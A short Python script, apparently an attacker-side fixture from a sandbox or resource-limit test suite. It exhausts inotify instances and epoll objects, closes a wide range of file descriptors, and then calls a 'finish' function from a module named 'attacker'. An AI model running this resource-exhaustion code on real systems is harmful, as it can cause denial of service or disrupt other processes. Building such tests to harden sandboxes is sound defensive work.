import ctypes
import select

from attacker import finish

libc = ctypes.CDLL(None)
while libc.inotify_init() >= 0:
    pass
polls = []
try:
    while True:
        polls.append(select.epoll())
except OSError:
    pass
for poll in polls:
    poll.close()
for fd in range(64, 4096):
    libc.close(fd)
finish()
